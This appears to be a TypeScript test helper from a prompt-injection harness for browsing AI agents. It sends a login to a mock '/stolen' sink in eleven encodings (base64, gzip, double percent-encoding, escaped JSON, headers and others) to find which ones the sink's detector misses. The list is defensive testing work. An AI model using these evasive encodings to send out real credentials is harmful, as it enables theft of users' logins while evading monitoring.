import { once } from 'node:events'
import { request as sendRequest } from 'node:https'
import { gzipSync } from 'node:zlib'
import { sinkHost } from './injection-pages.ts'
import type { InjectionSites } from './start-sites.ts'

/** What a control sends to the sink. */
interface Attempt {
  path?: string
  headers?: Readonly<Record<string, string>>
  body?: string | Buffer
}

/** Sends a login to the sink in the ways that pages could, and returns those that the sink did not notice. */
export async function listUnnoticed(sites: InjectionSites, login: string): Promise<string[]> {
  const unnoticed: string[] = []
  for (const [way, attempt] of Object.entries(listAttempts(login))) {
    await send(sites.port, attempt)
    const { harms } = await sites.take()
    if (harms.length === 0) unnoticed.push(way)
  }
  return unnoticed
}

function listAttempts(login: string): Record<string, Attempt> {
  const form = { 'content-type': 'application/x-www-form-urlencoded' }
  const json = { 'content-type': 'application/json' }
  return {
    'in the address': { path: `/stolen?value=${encodeURIComponent(login)}` },
    'in an address that is encoded badly': { path: `/stolen?odd=%zz%&value=${login}` },
    'in a header': { headers: { 'x-value': login } },
    'as plain text': { body: login },
    'as a form': { headers: form, body: new URLSearchParams({ value: login }).toString() },
    'encoded twice': { headers: form, body: encodeURIComponent(escape(login)) },
    'as JSON': { headers: json, body: JSON.stringify({ value: login }) },
    'as escaped JSON': { headers: json, body: `{"value":"${escapeJson(login)}"}` },
    'in base64': { body: Buffer.from(login).toString('base64') },
    'among other bytes': { body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(login)]) },
    compressed: { headers: { 'content-encoding': 'gzip' }, body: gzipSync(login) },
  }
}

/** Percent-encodes every character, as pages can. */
function escape(text: string): string {
  return [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
}

function escapeJson(text: string): string {
  return text.replaceAll(/./g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`)
}

async function send(
  port: number,
  { path = '/stolen', headers = {}, body }: Attempt,
): Promise<void> {
  const request = sendRequest({
    port,
    path,
    method: body === undefined ? 'GET' : 'POST',
    headers: { host: sinkHost, ...headers },
    // The certificate of the tests is for a name, and this is an address.
    rejectUnauthorized: false,
  })
  request.end(body)
  const [response] = await once(request, 'response')
  response.resume()
  await once(response, 'end')
}
